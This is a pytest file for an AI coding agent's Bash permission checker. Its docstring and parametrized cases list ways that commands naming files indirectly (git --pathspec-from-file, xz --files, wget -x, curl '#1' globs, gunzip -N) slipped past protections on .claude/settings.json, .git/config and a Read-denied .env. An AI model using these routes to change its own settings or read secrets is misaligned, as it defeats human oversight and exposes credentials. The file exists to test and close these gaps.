"""Files named where no argument spells them: in a list file or standard input, by a URL's glob
or folders (session 44).  Each let a protected path change, or a Read-denied file be read,
unasked under an allow-everything rule in bypassPermissions:

- ``git checkout --pathspec-from-file=LIST HEAD`` (``restore``, ``stash push``, ``rm``) took the
  paths from LIST: read now as ``-- .``, the whole tree; ``git rm -rf .`` deleted a tracked
  ``.claude/settings.json`` (``git rm`` is now a working-tree command like ``git clean``);
  ``git update-index --add --stdin`` staged ``.env`` as ``git add .env`` (which asks) would;
- ``echo .git/config | xz --files`` replaced ``.git/config`` by ``.git/config.xz`` (``zstd
  --filelist`` likewise writes beside each), and ``xz -c --files``/``pax -w`` archived or
  compressed ``.env`` to standard output;
- ``wget -x -nH https://h/.git/config`` writes ``.git/config`` (``-x``: the URL's folders), and
  ``curl -o '#1' 'https://h/{.bashrc}'`` writes ``.bashrc`` (``#1``: the glob's value);
- ``gunzip -N x.gz`` writes the name the gzip header holds, ``uudecode x.uu`` the one its
  ``begin`` line names, ``gpg --use-embedded-filename`` the one the message holds.
"""

from __future__ import annotations

import shutil
import subprocess

import pytest

from tests.permissions.conftest import verdict_name
from tests.permissions.test_git_tracked import git_env
from tests.permissions.test_git_worktree import _dirty, _protected_state, _repo
from tests.permissions.tools import decide_bash, make_ctx

LISTED_PATHSPECS = [
    "git checkout --pathspec-from-file=list HEAD",
    "git checkout HEAD --pathspec-from-file list",
    "git restore --pathspec-from-file=list",
    "git restore --pathspec-from=list",  # a unique beginning of the option
    "git stash push --pathspec-from-file=list",
    "git rm -f --pathspec-from-file=list",
]


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize("command", LISTED_PATHSPECS)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
async def test_pathspecs_from_a_file_cover_the_whole_tree(tmp_path, command, mode):
    project = _repo(tmp_path)
    (project / "list").write_text(".claude/settings.json\n")
    _dirty(project)
    ctx = make_ctx(project, allow=("Bash(git:*)",), mode=mode)
    assert verdict_name(await decide_bash(ctx, command)) == "ask", command


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize("command", LISTED_PATHSPECS)
def test_git_really_changes_the_listed_protected_file(tmp_path, command):
    project = _repo(tmp_path)
    (project / "list").write_text(".claude/settings.json\n")
    _dirty(project)
    before = _protected_state(project)
    subprocess.run(command.split(), cwd=project, capture_output=True, timeout=30, env=git_env(project.parent))
    assert _protected_state(project) != before, command


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
async def test_update_index_from_standard_input_stages_what_it_reads(world):
    project = world.project
    subprocess.run(["git", "init", "-q"], cwd=project, check=True, env=git_env(world.root))
    ctx = make_ctx(project, allow=("Bash(*)",), deny=("Read(./.env)",), mode="bypassPermissions")
    for command in ("echo .env | git update-index --add --stdin", "git update-index --add --stdin -z < list"):
        assert verdict_name(await decide_bash(ctx, command)) == "ask", command
    assert verdict_name(await decide_bash(ctx, "git update-index --refresh")) == "allow"
    subprocess.run("echo .env | git update-index --add --stdin", shell=True, cwd=project, check=True,
                   env=git_env(world.root))  # the ground truth: .env is staged, its content in the repository
    staged = subprocess.run(["git", "show", ":.env"], cwd=project, capture_output=True, text=True,
                            env=git_env(world.root)).stdout
    assert staged == "SECRET=1\n"


UNDER_RULES = [  # Bash(*) allowed, Read(./.env) denied, bypassPermissions
    ("echo .git/config | xz --files", "ask"),
    ("xz --files=list", "ask"),
    ("xz --files0=list0", "ask"),
    ("xz --fil=list", "ask"),  # a unique beginning
    ("xz -d --files < list", "ask"),
    ("zstd --filelist list", "ask"),
    ("echo .env | xz -c --files", "ask"),  # reads .env to standard output
    ("zstd -c --filelist list", "ask"),
    ("xzcat --files < list", "ask"),
    ("xz a.py", "allow"),
    ("xz -c a.py", "allow"),
    ("xz -c .env", "ask"),
    ("echo .env | pax -w", "ask"),
    ("echo .env | pax -w -f out.pax", "ask"),
    ("pax -w .", "ask"),  # every file below ., .env too
    ("pax -w a.py", "allow"),
    ("pax -w -f out.pax sub", "allow"),
    ("wget -x -nH https://example.com/.git/config", "ask"),
    ("wget -x https://example.com/.git/config", "ask"),  # example.com/.git/config
    ("wget --force-directories --no-host-directories https://example.com/a/.claude/settings.json", "ask"),
    ("wget -x -nH --cut-dirs=1 https://example.com/a/.mcp.json", "ask"),
    ("wget -x -nH -P sub https://example.com/.git/config", "ask"),
    ("wget -x -nH https://example.com/a/b.txt", "allow"),
    ("wget -x -nd https://example.com/.git/config", "allow"),  # -nd: no folders, ./config
    ("curl -o '#1' 'https://example.com/{.bashrc}'", "ask"),
    ("curl -o 'x/#1.txt' 'https://example.com/[1-3]'", "ask"),
    ("curl -g -o '#1' 'https://example.com/{.bashrc}'", "allow"),  # --globoff: the name #1
    ("curl -o out.txt 'https://example.com/[1-3]'", "allow"),
    ("gunzip -N x.gz", "ask"),
    ("gzip -dN x.gz", "ask"),
    ("gzip -d --name x.gz", "ask"),
    ("unpigz -N x.gz", "ask"),
    ("gunzip \"$OPTS\" x.gz", "ask"),  # it may be -N
    ("uudecode x.uu", "ask"),
    ("gpg --use-embedded-filename -d x.gpg", "ask"),
    ("gunzip x.gz", "allow"),  # writes x
    ("gunzip -cN x.gz", "allow"),  # to standard output
    ("gzip -N a.py", "allow"),  # compressing: a.py.gz
    ("uudecode -o out.txt x.uu", "allow"),
    ("gpg -d x.gpg", "allow"),  # to standard output
]


@pytest.mark.parametrize(("command", "expected"), UNDER_RULES)
async def test_names_from_lists_globs_and_url_folders(world, command, expected):
    (world.project / "list").write_text(".git/config\n")
    (world.project / "list0").write_text(".git/config\0")
    (world.project / "sub").mkdir(exist_ok=True)
    ctx = make_ctx(world.project, allow=("Bash(*)",), deny=("Read(./.env)",), mode="bypassPermissions")
    verdict = verdict_name(await decide_bash(ctx, command))
    assert verdict == expected, (command, verdict)


@pytest.mark.skipif(shutil.which("xz") is None, reason="xz is not installed")
def test_xz_really_replaces_the_files_its_list_names(tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n")
    subprocess.run("echo .git/config | xz --files", shell=True, cwd=tmp_path, check=True, timeout=30)
    assert not (tmp_path / ".git" / "config").exists() and (tmp_path / ".git" / "config.xz").exists()


@pytest.mark.skipif(shutil.which("gzip") is None, reason="gzip is not installed")
def test_gunzip_n_really_writes_the_name_in_the_header(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / ".bashrc").write_text("echo hi\n")
    subprocess.run("gzip -c a/.bashrc > x.gz && gunzip -N x.gz", shell=True, cwd=tmp_path, check=True, timeout=30)
    assert (tmp_path / ".bashrc").read_text() == "echo hi\n"
